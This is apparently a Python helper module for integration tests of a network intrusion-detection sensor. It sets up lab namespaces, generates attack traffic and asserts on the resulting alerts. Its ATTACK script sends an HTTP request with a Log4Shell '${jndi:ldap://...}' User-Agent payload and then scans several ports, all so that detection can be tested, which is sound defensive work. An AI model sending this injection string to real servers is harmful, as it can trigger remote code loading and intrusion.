"""What the test hypervisors share (tests/hypervisor/*.py): the guests' traffic (a listener, and
an attack: an HTTP request with a Log4Shell `${jndi:` User-Agent to port 8080, then SYNs to
closed ports: a port scan), the VM inventory of hypervisor.sh's guests, the root/namespace preflight, a test's frame on hypervisor.sh (run_test: command
line, set-up and teardown), starting eastwatch in the sensor namespace and waiting until it
captures, stopping it with SIGTERM, and reading eve.json back.
"""
import argparse
import json
import os
import shutil
import signal
import subprocess
import time

LISTENER = r"""
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8080)); s.listen(8); print("listening", flush=True)
while True:
    c, _ = s.accept(); c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"); c.close()
"""

ATTACK = r"""
import socket, sys
target = sys.argv[1]
c = socket.create_connection((target, 8080), timeout=5)
c.sendall(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: ${jndi:ldap://10.77.0.1:1389/Exploit}\r\n\r\n")
print(c.recv(4096)[:15], flush=True); c.close()
for port in (21, 23, 25, 3306, 5432):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((target, port))
    except OSError: pass
    s.close()
"""

CLOSED_PORTS = 5  # the SYNs of ATTACK after the HTTP request
GUEST1, GUEST2 = "10.77.0.1", "10.77.0.2"  # hypervisor.sh's guests vm1 and vm2 (vm3 is 10.77.0.3)

# hypervisor.sh's guests as a VM inventory: alerts name them, and the built-in detectors run. With
# SCAN_SETTINGS, ATTACK's 6 ports of one neighbour (8080 and CLOSED_PORTS) are a port scan (gid 9000
# sid 6).
INVENTORY = """sensor: {host: hv-01}
zones: [{name: web}, {name: db}]
policy: {default: allow}
vms:
  - {name: vm1, host: hv-01, zone: web, macs: ["02:00:00:77:00:01"], ips: ["10.77.0.1"]}
  - {name: vm2, host: hv-01, zone: db, macs: ["02:00:00:77:00:02"], ips: ["10.77.0.2"]}
  - {name: vm3, host: hv-01, zone: db, macs: ["02:00:00:77:00:03"], ips: ["10.77.0.3"]}
"""
SCAN_SETTINGS = ["--set", "vm-detect.scan.ports=4"]


class Skip(Exception):
    """The test cannot run here (exit 77, ctest: skipped)."""


def sh(*argv, **kw):
    return subprocess.run(list(argv), check=True, capture_output=True, text=True, timeout=60, **kw)


def preflight(name, prefix, tools=("ip", "tc")):
    """Raises Skip unless we are root, have `tools` and may create network namespaces."""
    if os.geteuid() != 0:
        raise Skip(f"{name}: needs root (network namespaces, veth); run it as root")
    missing = [tool for tool in tools if shutil.which(tool) is None]
    if missing:
        raise Skip(f"{name}: needs {', '.join(missing)}")
    probe = subprocess.run(["ip", "netns", "add", f"{prefix}-probe"], capture_output=True, text=True)
    if probe.returncode != 0:  # root without CAP_SYS_ADMIN (e.g. an unprivileged container)
        raise Skip(f"{name}: cannot create network namespaces: {probe.stderr.strip()}")
    subprocess.run(["ip", "netns", "del", f"{prefix}-probe"], capture_output=True)


class Lab:
    """What run_test hands a test: the command line (args), the namespaces' prefix, hypervisor.sh
    (script), the default rule pack (rules), the output directory (out), and what run_test stops
    at the end, even when the test fails: the sensor (start_sensor) and `processes`."""

    def __init__(self, args, prefix):
        self.args = args
        self.prefix = prefix
        self.script = os.path.join(args.source, "tests", "hypervisor", "hypervisor.sh")
        self.rules = os.path.join(args.source, "signatures", "rules", "eastwatch.rules")
        self.out = os.path.join(args.work, "out")
        self.inventory = os.path.join(args.work, "inventory.yaml")
        self.processes = []
        self.sensor = None

    def inventory_args(self):
        """Writes INVENTORY to the work directory; returns the --set options that load it and make
        ATTACK's ports a scan (check_attack with scan=True)."""
        with open(self.inventory, "w") as f:
            f.write(INVENTORY)
        return ["--set", f"inventory.file={self.inventory}", *SCAN_SETTINGS]

    def start_sensor(self, argv, ready="capturing on"):
        self.sensor = Sensor(self.prefix, argv, ready)
        return self.sensor


def run_test(name, prefix, default_work, test):
    """The frame of a test on hypervisor.sh's test hypervisor: parses --eastwatch, --source and
    --work (default_work), runs the preflight, empties --work but for an out/ directory, brings
    the namespaces up with `prefix`, runs test(Lab) and takes everything down, even when it fails.
    Returns the exit status: 0 when the test returns, 77 on Skip (it prints `SKIP why`), 1 on a
    failed assertion, command or file operation (it prints `FAIL name: why`)."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--eastwatch", required=True)
    parser.add_argument("--source", required=True)
    parser.add_argument("--work", default=default_work)
    lab = Lab(parser.parse_args(), prefix)
    try:
        preflight(name, prefix)
        shutil.rmtree(lab.args.work, ignore_errors=True)
        os.makedirs(lab.out)
        try:
            sh("bash", lab.script, "up", prefix)
            test(lab)
            return 0
        finally:
            if lab.sensor is not None:
                lab.sensor.kill()
            kill_all(lab.processes)
            subprocess.run(["bash", lab.script, "down", prefix], capture_output=True)
    except Skip as skip:
        print(f"SKIP {skip}")
        return 77
    except (AssertionError, subprocess.SubprocessError, OSError) as error:
        detail = error.stderr if isinstance(error, subprocess.CalledProcessError) else ""
        print(f"FAIL {name}: {error} {detail}")
        return 1


def netns(prefix, name, *argv):
    return ["ip", "netns", "exec", f"{prefix}-{name}", *argv]


class Sensor:
    """eastwatch in the sensor namespace; `start` returns once it reports `ready` on stderr."""

    def __init__(self, prefix, argv, ready="capturing on"):
        self.process = subprocess.Popen(netns(prefix, "sensor", *argv), stdout=subprocess.PIPE,
                                        stderr=subprocess.PIPE, text=True)
        self.stderr = ""
        deadline = time.monotonic() + 60
        while ready not in self.stderr:
            line = self.process.stderr.readline()
            if not line or time.monotonic() > deadline:
                self.stderr += line
                rc = self.process.poll()
                self.kill()
                raise AssertionError(f"eastwatch did not start capturing: {self.stderr!r} rc={rc}")
            self.stderr += line

    def wait_for(self, text, seconds=30):
        """Reads stderr until `text` appears (the process keeps running)."""
        deadline = time.monotonic() + seconds
        while text not in self.stderr:
            line = self.process.stderr.readline()
            if not line or time.monotonic() > deadline:
                raise AssertionError(f"eastwatch never said {text!r}: {self.stderr!r} rc={self.process.poll()}")
            self.stderr += line

    def stop(self):
        """SIGTERM; asserts a clean exit 0 and returns its stderr."""
        assert self.process.poll() is None, f"eastwatch exited early ({self.process.returncode}): {self.stderr}"
        self.process.send_signal(signal.SIGTERM)
        _, rest = self.process.communicate(timeout=60)
        self.stderr += rest
        assert self.process.returncode == 0, f"eastwatch exit {self.process.returncode} after SIGTERM: {self.stderr}"
        return self.stderr

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()


def start_listener(prefix, guest, port=8080):
    listener = subprocess.Popen(netns(prefix, guest, "/usr/bin/python3", "-c", LISTENER.replace("8080", str(port))),
                                stdout=subprocess.PIPE, text=True)
    assert listener.stdout.readline().strip() == "listening", f"listener in {guest}"
    return listener


def attack(prefix, attacker, target_ip):
    """Runs ATTACK from `attacker` against `target_ip`; asserts the HTTP exchange completed."""
    result = sh(*netns(prefix, attacker, "/usr/bin/python3", "-c", ATTACK, target_ip))
    assert "200 OK" in result.stdout, f"{target_ip} answered: {result.stdout!r}"


def check_attack(records, attacker_ip, target_ip, scan=False):
    """The alerts of ATTACK from attacker_ip on target_ip with the default rule pack: the Log4Shell
    one (sid 9000001, the only default rule this traffic matches: the SYNs to closed ports match
    none), and the SYNs were seen. With scan (a run with Lab.inventory_args): also the port scan
    alert (gid 9000 sid 6) between the same two, and every alert names both VMs (vm1 -> vm2 of
    INVENTORY); nothing else alerts. Returns the alerts (gid, sid, src, dest, dest port) and the
    last stats record."""
    alerts = [(r["alert"].get("gid", 1), r["alert"]["signature_id"], r["src_ip"], r["dest_ip"], r.get("dest_port"))
              for r in alerts_of(records)]
    assert (1, 9000001, attacker_ip, target_ip, 8080) in alerts, f"Log4Shell alert between the guests: {alerts}"
    expected = {(1, 9000001), (9000, 6)} if scan else {(1, 9000001)}
    assert {(gid, sid) for gid, sid, *_ in alerts} == expected, f"only {sorted(expected)} alert: {alerts}"
    if scan:
        assert any(a[:4] == (9000, 6, attacker_ip, target_ip) for a in alerts), f"the port scan alert: {alerts}"
        names = {f"10.77.0.{i}": f"vm{i}" for i in (1, 2, 3)}  # INVENTORY's
        for record in alerts_of(records):
            vm = record.get("vm", {})
            got = (vm.get("src", {}).get("name"), vm.get("dest", {}).get("name"))
            assert got == (names[attacker_ip], names[target_ip]), f"the alert names both VMs: {vm}"
    stats = last_stats(records)
    assert stats["tcp"]["syn"] >= 1 + CLOSED_PORTS, f"the SYNs were seen: {stats['tcp']}"
    return alerts, stats


def read_eve(out):
    return [json.loads(line) for line in open(os.path.join(out, "eve.json"))]


def alerts_of(records):
    return [r for r in records if r["event_type"] == "alert"]


def last_stats(records):
    stats = [r["stats"] for r in records if r["event_type"] == "stats"]
    assert stats, "a final stats record"
    return stats[-1]


def kill_all(processes):
    for process in processes:
        if process.poll() is None:
            process.kill()
            process.wait()
